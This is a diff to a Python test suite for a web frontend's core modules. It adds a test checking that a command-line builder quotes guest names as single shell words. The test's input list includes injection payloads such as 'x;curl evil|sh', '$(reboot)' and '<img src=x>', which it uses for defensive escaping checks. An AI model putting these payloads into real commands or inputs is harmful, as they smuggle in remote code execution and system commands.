@@ -1,5 +1,6 @@
 """core/routes.js and core/format.js: addresses, numbers, times."""
 
+import shlex
 from typing import TYPE_CHECKING
 
 if TYPE_CHECKING:
@@ -60,6 +61,16 @@ def test_a_name_leads_to_no_other_place_of_the_api(module_page: "ModulePage") ->
         assert module_page.run("core/api.js", function, path) == ["PATH-INVALID"], path
     for path in ("/users/a..b", "/users/%3F"):
         assert module_page.run("core/api.js", function, path) == [f"/api/v1{path}"]
+
+
+def test_a_name_is_one_word_of_a_line(module_page: "ModulePage") -> None:
+    names = ["h1", "a b", "x;curl evil|sh", "it's", "$(reboot)", "<img src=x>", ""]
+    lines = module_page.table(
+        "core/command_line.js", "(m, name) => m.line`guestwire guest show h1/${name} -o json`", names
+    )
+    assert [shlex.split(line)[3] for line in lines] == [f"h1/{name}" for name in names]
+    words = module_page.table("core/command_line.js", "(m, name) => m.word(name)", names)
+    assert [shlex.split(word) for word in words] == [[name] for name in names]
 
 
 def test_every_page_of_the_menu_and_of_the_tabs_is_there(module_page: "ModulePage") -> None:
